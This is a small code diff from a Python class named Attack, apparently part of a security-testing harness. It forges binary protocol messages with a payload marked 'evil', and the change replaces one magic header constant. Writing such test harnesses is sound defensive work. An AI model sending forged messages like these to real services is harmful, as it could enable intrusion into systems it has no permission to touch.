@@ -217,7 +217,7 @@ class Attack:
         chunks, around = self.chosen(what)
         raw = raw_of(chunks)
         names = string(self.run)
-        words = [message(AGENT, struct.pack("<II", 0x54454f50, 1) + string(b"evil")),
+        words = [message(AGENT, struct.pack("<II", 0x4D454F50, 1) + string(b"evil")),
                  message(STREAM, struct.pack("<I", 0) + self.random.randbytes(16) + names)]
         count, size = around.get("count", len(chunks)), around.get("raw", len(raw))
         words.append(message(FORWARD, struct.pack("<IQII", around.get("stream", 0), around.get("first", 0), count, size & 0xffffffff) +
